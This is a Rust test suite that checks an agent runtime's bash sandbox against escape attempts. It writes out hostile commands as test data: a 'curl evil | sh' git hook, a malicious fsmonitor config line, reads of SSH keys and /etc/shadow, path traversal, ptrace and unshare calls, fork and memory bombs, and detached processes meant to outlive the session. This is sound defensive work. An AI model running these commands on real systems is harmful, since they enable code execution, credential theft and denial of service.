//! The escape suite: real attempts, from `bash` inside the local sandbox, to
//! get out of it. Each case asserts that the attempt failed *and* that the
//! host is unchanged. The guest is the real `cortex-guest` binary started by
//! the `local` provider, exactly as a session starts it.

mod common;

use common::{CallJson, collect, guest_binary, spec, wait_gone};
use cortex_protocol::{NetworkPolicy, SandboxPolicy, ToolName, ToolOutcome};
use cortex_runtime::{Guest, GuestProvider, GuestSpec, Limits, SandboxProvider};
use serde_json::json;
use std::path::{Path, PathBuf};
use std::time::Duration;

struct Sandbox {
    workspace: tempfile::TempDir,
    homes: tempfile::TempDir,
    provider: SandboxProvider,
}

impl Sandbox {
    fn new() -> Sandbox {
        let workspace = tempfile::tempdir().expect("workspace");
        let homes = tempfile::tempdir().expect("homes");
        let mut provider =
            SandboxProvider::new(guest_binary(), Vec::new(), homes.path().to_path_buf());
        provider.limits = Limits {
            memory_bytes: 256 << 20,
            max_processes: 64,
        };
        Sandbox {
            workspace,
            homes,
            provider,
        }
    }

    fn spec(&self) -> GuestSpec {
        spec(self.workspace.path(), true, true)
    }

    async fn start(&self) -> Guest {
        self.start_with(&self.spec()).await
    }

    async fn start_with(&self, spec: &GuestSpec) -> Guest {
        self.provider.start(spec).await.expect("the sandbox starts")
    }

    fn path(&self, relative: &str) -> PathBuf {
        self.workspace.path().join(relative)
    }
}

async fn bash(guest: &Guest, command: &str) -> ToolOutcome {
    bash_with_timeout(guest, command, 20_000).await
}

async fn bash_with_timeout(guest: &Guest, command: &str, timeout_ms: u64) -> ToolOutcome {
    let mut call = guest
        .call_json(
            ToolName::Bash,
            json!({"command": command, "timeout_ms": timeout_ms}),
        )
        .await
        .expect("call");
    collect(&mut call).await.1.expect("a result")
}

fn first_line(out: &ToolOutcome) -> &str {
    out.output.lines().next().unwrap_or_default().trim()
}

/// A string no other process on the host has in its command line.
fn marker() -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.subsec_nanos())
        .unwrap_or_default();
    format!("{}{:09}", std::process::id(), nanos)
}

/// Host pids whose command line contains `marker`.
fn host_processes_with(marker: &str) -> Vec<i32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").expect("/proc").flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        if pid as u32 == std::process::id() {
            continue;
        }
        let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
        if String::from_utf8_lossy(&cmdline).contains(marker) && common::pid_alive(pid) {
            found.push(pid);
        }
    }
    found
}

/// Background commands may still be between fork and exec when the call
/// returns: wait until `count` of them show (or the deadline passes).
async fn wait_for_processes(marker: &str, count: usize) -> usize {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
    loop {
        let found = host_processes_with(marker).len();
        if found >= count || tokio::time::Instant::now() > deadline {
            return found;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

async fn wait_no_processes_with(marker: &str) -> Vec<i32> {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
    loop {
        let left = host_processes_with(marker);
        if left.is_empty() || tokio::time::Instant::now() > deadline {
            return left;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn the_guest_reports_its_layers() {
    let sandbox = Sandbox::new();
    let guest = sandbox.start().await;
    let report = guest
        .describe()
        .await
        .expect("describe")
        .expect("a sandbox");
    for layer in ["namespaces", "mounts", "no-new-privs", "seccomp"] {
        assert!(report.layers.contains(layer), "{layer} missing: {report:?}");
    }
    let out = bash(
        &guest,
        "id -u; hostname; cat /proc/self/status | grep CapEff",
    )
    .await;
    assert!(out.is_ok(), "{}", out.output);
    assert!(out.output.contains("cortex-guest"), "{}", out.output);
    assert!(
        out.output.contains("CapEff:\t0000000000000000"),
        "{}",
        out.output
    );
    guest.close().await;
}

#[tokio::test]
async fn writes_outside_the_workspace_fail_and_change_nothing() {
    let sandbox = Sandbox::new();
    let guest = sandbox.start().await;
    let mark = marker();
    let targets = [
        PathBuf::from(format!("/usr/local/cortex-escape-{mark}")),
        PathBuf::from(format!("/etc/cortex-escape-{mark}")),
        Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("cortex-escape-{mark}")),
    ];
    for target in &targets {
        let out = bash(&guest, &format!("echo pwned > '{}'", target.display())).await;
        assert!(
            !out.is_ok(),
            "writing {} succeeded: {}",
            target.display(),
            out.output
        );
        assert!(
            !target.exists(),
            "{} appeared on the host",
            target.display()
        );
    }
    // Through a symlink planted in the workspace, and through `..`.
    let out = bash(
        &guest,
        &format!("ln -s /usr/local evil && echo pwned > evil/cortex-escape-{mark}"),
    )
    .await;
    assert!(!out.is_ok(), "{}", out.output);
    let out = bash(
        &guest,
        &format!("echo pwned > ../../../../usr/local/cortex-escape-{mark}"),
    )
    .await;
    assert!(!out.is_ok(), "{}", out.output);
    assert!(!Path::new(&format!("/usr/local/cortex-escape-{mark}")).exists());
    // The workspace itself is writable.
    let out = bash(&guest, "echo fine > inside.txt").await;
    assert!(out.is_ok(), "{}", out.output);
    assert_eq!(
        std::fs::read_to_string(sandbox.path("inside.txt")).expect("read"),
        "fine\n"
    );
    guest.close().await;
}

#[tokio::test]
async fn host_homes_and_secrets_are_invisible() {
    let sandbox = Sandbox::new();
    // A canary in a "home" that the provider hides, as it hides the
    // harness's own $HOME.
    let host_home = tempfile::tempdir().expect("home");
    let canary = format!("canary-{}", marker());
    std::fs::create_dir(host_home.path().join(".ssh")).expect("mkdir");
    std::fs::write(host_home.path().join(".ssh/id_ed25519"), &canary).expect("canary");
    let mut provider = SandboxProvider::new(
        guest_binary(),
        Vec::new(),
        sandbox.homes.path().to_path_buf(),
    );
    provider.hide.push(host_home.path().to_path_buf());
    // And one in /root when we can write there (CI runs as root).
    let root_canary = Path::new("/root").join(format!(".cortex-{canary}"));
    let wrote_root = std::fs::write(&root_canary, &canary).is_ok();
    let guest = provider.start(&sandbox.spec()).await.expect("start");
    let out = bash(
        &guest,
        &format!(
            "cat '{home}/.ssh/id_ed25519'; ls -A '{home}' /root /home; cat /root/.cortex-*; \
             echo shadow=$(cat /etc/shadow | wc -c); grep -r {canary} /root /home /tmp /var/tmp 2>&1; echo HOME=$HOME",
            home = host_home.path().display()
        ),
    )
    .await;
    if wrote_root {
        let _ = std::fs::remove_file(&root_canary);
    }
    assert!(
        !out.output.contains(&canary),
        "a secret leaked: {}",
        out.output
    );
    assert!(out.output.contains("HOME=/home/cortex"), "{}", out.output);
    assert!(
        out.output.contains("shadow=0"),
        "shadow readable: {}",
        out.output
    );
    guest.close().await;
}

#[tokio::test]
async fn the_guest_home_persists_per_repository() {
    let sandbox = Sandbox::new();
    let guest = sandbox.start().await;
    let out = bash(&guest, "mkdir -p ~/.cache && echo kept > ~/.cache/x").await;
    assert!(out.is_ok(), "{}", out.output);
    guest.close().await;
    let guest = sandbox.start().await;
    let out = bash(&guest, "cat ~/.cache/x").await;
    assert_eq!(first_line(&out), "kept", "{}", out.output);
    guest.close().await;
}

#[tokio::test]
async fn network_is_off_unless_the_policy_turns_it_on() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
    let accepted = || {
        let mut count = 0;
        while listener.accept().is_ok() {
            count += 1;
        }
        count
    };

    let sandbox = Sandbox::new();
    let guest = sandbox.start().await;
    let out = bash(&guest, &connect).await;
    assert!(
        !out.is_ok(),
        "reached the host with network off: {}",
        out.output
    );
    let out = bash(&guest, "ls /sys/class/net; grep -c : /proc/net/dev").await;
    assert_eq!(
        out.output.lines().take(2).collect::<Vec<_>>(),
        ["lo", "1"],
        "only loopback: {}",
        out.output
    );
    guest.close().await;
    assert_eq!(accepted(), 0, "the host listener saw a connection");

    let mut on = sandbox.spec();
    on.network = NetworkPolicy::On;
    let guest = sandbox.start_with(&on).await;
    let out = bash(&guest, &connect).await;
    assert!(
        out.is_ok() && out.output.contains("connected"),
        "{}",
        out.output
    );
    guest.close().await;
    assert_eq!(accepted(), 1);
}

#[tokio::test]
async fn git_hooks_and_cortex_config_stay_read_only() {
    let sandbox = Sandbox::new();
    std::fs::create_dir_all(sandbox.path(".git/hooks")).expect("hooks");
    std::fs::write(sandbox.path(".git/config"), "[core]\n").expect("config");
    std::fs::create_dir_all(sandbox.path(".cortex")).expect(".cortex");
    let guest = sandbox.start().await;
    for attempt in [
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "chmod +x .git/hooks/pre-commit",
        "printf '\\tfsmonitor = evil\\n' >> .git/config",
        "echo x > .cortex/setup",
        "rm -rf .git/hooks",
    ] {
        let out = bash(&guest, attempt).await;
        assert!(!out.is_ok(), "`{attempt}` succeeded: {}", out.output);
    }
    let hook = run_tool(
        &guest,
        ToolName::WriteFile,
        json!({"path": ".git/hooks/post-checkout", "content": "evil"}),
    )
    .await;
    assert!(!hook.is_ok(), "{}", hook.output);
    assert!(!sandbox.path(".git/hooks/pre-commit").exists());
    assert!(!sandbox.path(".git/hooks/post-checkout").exists());
    assert!(!sandbox.path(".cortex/setup").exists());
    assert_eq!(
        std::fs::read_to_string(sandbox.path(".git/config")).expect("read"),
        "[core]\n"
    );
    // So is the rest of .git unless `git_write` (tests/escape_git.rs).
    let out = bash(&guest, "echo ref > .git/HEAD.test").await;
    assert!(!out.is_ok(), "{}", out.output);
    guest.close().await;
}

async fn run_tool(guest: &Guest, name: ToolName, args: serde_json::Value) -> ToolOutcome {
    let mut call = guest.call_json(name, args).await.expect("call");
    collect(&mut call).await.1.expect("a result")
}

#[tokio::test]
async fn ptrace_mount_and_new_namespaces_are_denied() {
    let sandbox = Sandbox::new();
    let guest = sandbox.start().await;
    let host_pid = std::process::id();
    let attempts = [
        // PTRACE_ATTACH (16) of a process of the guest itself, then of a host pid.
        "sleep 30 >/dev/null 2>&1 & python3 -c \"import ctypes,sys; r=ctypes.CDLL(None,use_errno=True).ptrace(16,int(sys.argv[1]),0,0); sys.exit(0 if r==0 else 1)\" $!".to_owned(),
        format!("python3 -c \"import ctypes,sys; sys.exit(0 if ctypes.CDLL(None).ptrace(16,{host_pid},0,0)==0 else 1)\""),
        "strace -f true".to_owned(),
        "mount -t tmpfs none /mnt".to_owned(),
        "unshare -r true".to_owned(),
        "unshare -m true".to_owned(),
    ];
    for attempt in &attempts {
        let out = bash(&guest, attempt).await;
        eprintln!("{attempt}: {}", out.output);
        assert!(!out.is_ok(), "`{attempt}` succeeded: {}", out.output);
        assert!(!out.output.contains("timed out"), "{}", out.output);
    }
    // The host process is not even visible.
    let out = bash(&guest, &format!("test -e /proc/{host_pid} && echo visible")).await;
    assert!(
        !out.output.contains("visible") || host_pid <= 2,
        "{}",
        out.output
    );
    guest.close().await;
}

#[tokio::test]
async fn fork_and_memory_bombs_are_bounded() {
    let sandbox = Sandbox::new();
    let guest = sandbox.start().await;
    let report = guest.describe().await.expect("describe").expect("sandbox");
    if report.warnings.iter().any(|w| w.contains("not bounded")) {
        // The memory bomb below still runs.
        cortex_testkit::skip_current(
            "cgroup",
            &format!("the fork bomb: no cgroup, and rlimits do not bind root: {report:?}"),
        );
    } else {
        let out = bash_with_timeout(&guest, "bomb() { bomb | bomb & }; bomb", 3_000).await;
        assert!(!out.is_ok(), "{}", out.output);
        let out = bash(&guest, "echo still here").await;
        assert!(out.is_ok(), "the guest did not survive: {}", out.output);
        guest.stop().await.expect("stop");
    }
    // 400 MB in one bash variable, past the 256 MB limit.
    let out = bash(
        &guest,
        "x=$(head -c 400000000 /dev/zero | tr '\\0' a); echo ${#x}",
    )
    .await;
    eprintln!("memory bomb: {}", out.output);
    assert!(
        !out.is_ok() && !out.output.contains("400000000"),
        "{}",
        out.output
    );
    let out = bash(&guest, "yes | head -c 100000000 | wc -c").await;
    assert!(out.is_ok(), "{}", out.output);
    let out = bash_with_timeout(&guest, "yes", 2_000).await;
    assert!(
        !out.is_ok() && out.output.len() < 64 * 1024,
        "flood not capped"
    );
    guest.close().await;
}

#[tokio::test]
async fn background_processes_end_at_stop_and_at_close() {
    let sandbox = Sandbox::new();
    let guest = sandbox.start().await;
    let mark = marker();
    let out = bash(
        &guest,
        &format!(
            "nohup sleep 1000.{mark} >/dev/null 2>&1 & \
             setsid sleep 1001.{mark} >/dev/null 2>&1 & \
             (sleep 1002.{mark} >/dev/null 2>&1 &) ; echo started"
        ),
    )
    .await;
    assert!(out.is_ok(), "{}", out.output);
    assert_eq!(
        wait_for_processes(&mark, 3).await,
        3,
        "the sleeps did not start"
    );
    guest.stop().await.expect("stop");
    assert_eq!(wait_no_processes_with(&mark).await, Vec::<i32>::new());
    guest.ping().await.expect("the guest itself survives Stop");

    let out = bash(
        &guest,
        &format!("setsid nohup sleep 1003.{mark} >/dev/null 2>&1 &"),
    )
    .await;
    assert!(out.is_ok(), "{}", out.output);
    assert_eq!(wait_for_processes(&mark, 1).await, 1);
    guest.close().await;
    assert_eq!(wait_no_processes_with(&mark).await, Vec::<i32>::new());
}

#[tokio::test]
async fn kill_9_of_the_agent_mid_command_ends_everything() {
    let sandbox = Sandbox::new();
    let guest = sandbox.start().await;
    let mark = marker();
    let mut call = guest
        .call_json(
            ToolName::Bash,
            json!({"command": format!("setsid sleep 1000.{mark} & echo go; sleep 1001.{mark}")}),
        )
        .await
        .expect("call");
    assert_eq!(wait_for_processes(&mark, 2).await, 2);
    let pid = guest.pid().expect("pid") as i32;
    // SAFETY: killing the agent process this test started.
    unsafe { libc::kill(pid, libc::SIGKILL) };
    let (_, result) = collect(&mut call).await;
    assert!(result.is_none(), "a killed guest cannot answer: {result:?}");
    assert!(wait_gone(pid, Duration::from_secs(5)).await);
    assert_eq!(wait_no_processes_with(&mark).await, Vec::<i32>::new());
    assert!(!guest.is_alive());
}

#[tokio::test]
async fn read_only_policy_mounts_the_workspace_read_only() {
    let sandbox = Sandbox::new();
    std::fs::write(sandbox.path("keep.txt"), "original\n").expect("write");
    let mut read_only = sandbox.spec();
    read_only.policy = SandboxPolicy::ReadOnly;
    read_only.writable = false;
    let guest = sandbox.start_with(&read_only).await;
    let out = bash(&guest, "echo changed > keep.txt").await;
    assert!(!out.is_ok(), "{}", out.output);
    let out = bash(&guest, "cat keep.txt && echo tmp > /tmp/x && cat /tmp/x").await;
    assert!(
        out.is_ok() && out.output.contains("original"),
        "{}",
        out.output
    );
    assert_eq!(
        std::fs::read_to_string(sandbox.path("keep.txt")).expect("read"),
        "original\n"
    );
    guest.close().await;
}

#[tokio::test]
async fn full_access_is_an_ordinary_process() {
    let sandbox = Sandbox::new();
    let mut full = sandbox.spec();
    full.policy = SandboxPolicy::FullAccess;
    let guest = sandbox.start_with(&full).await;
    assert_eq!(guest.describe().await.expect("describe"), None);
    let out = bash(&guest, "echo $$").await;
    let pid: i32 = first_line(&out).parse().expect("a pid");
    assert!(pid > 2, "full access shares the host pid namespace: {pid}");
    guest.close().await;
}

/// As an unprivileged user (here `nobody` via setpriv, when running as root).
#[tokio::test]
async fn an_unprivileged_user_gets_the_same_sandbox() {
    // SAFETY: geteuid cannot fail.
    if unsafe { libc::geteuid() } != 0 {
        // Already unprivileged: every other test covers this case, but this
        // one did not run.
        cortex_testkit::skip_current("root", "needs root to become nobody");
        return;
    }
    let sandbox = Sandbox::new();
    let chown = |path: &Path| {
        let status = std::process::Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(path)
            .status()
            .expect("chown");
        assert!(status.success());
    };
    chown(sandbox.workspace.path());
    chown(sandbox.homes.path());
    let mut provider = SandboxProvider::new(
        PathBuf::from("setpriv"),
        vec![
            "--reuid=65534".into(),
            "--regid=65534".into(),
            "--clear-groups".into(),
            guest_binary().display().to_string(),
        ],
        sandbox.homes.path().to_path_buf(),
    );
    provider.limits = sandbox.provider.limits;
    let guest = provider
        .start(&sandbox.spec())
        .await
        .expect("start as nobody");
    let report = guest.describe().await.expect("describe").expect("sandbox");
    assert!(report.layers.contains("namespaces"), "{report:?}");
    let out = bash(&guest, "echo ok > mine.txt && cat mine.txt && touch /etc/x").await;
    assert!(!out.is_ok() && out.output.contains("ok"), "{}", out.output);
    assert!(sandbox.path("mine.txt").exists());
    guest.close().await;
}

/// Where namespaces are not allowed (here: inside the sandbox, whose seccomp
/// filter denies `unshare`), the guest fails with one message that says why
/// and which policy to choose instead.
#[tokio::test]
async fn without_namespaces_the_error_names_the_way_out() {
    let mut sandbox = Sandbox::new();
    sandbox.provider.read_only.push(guest_binary());
    let guest = sandbox.start().await;
    let spec = serde_json::json!({
        "workspace": sandbox.workspace.path(),
        "workspace_writable": false,
    });
    let out = bash(
        &guest,
        &format!(
            "'{}' --root . --sandbox '{spec}' </dev/null; echo code=$?",
            guest_binary().display()
        ),
    )
    .await;
    assert!(out.output.contains("code=3"), "{}", out.output);
    assert!(
        out.output.contains("cannot create the guest's namespaces")
            && out.output.contains("--sandbox full-access"),
        "{}",
        out.output
    );
    guest.close().await;
}
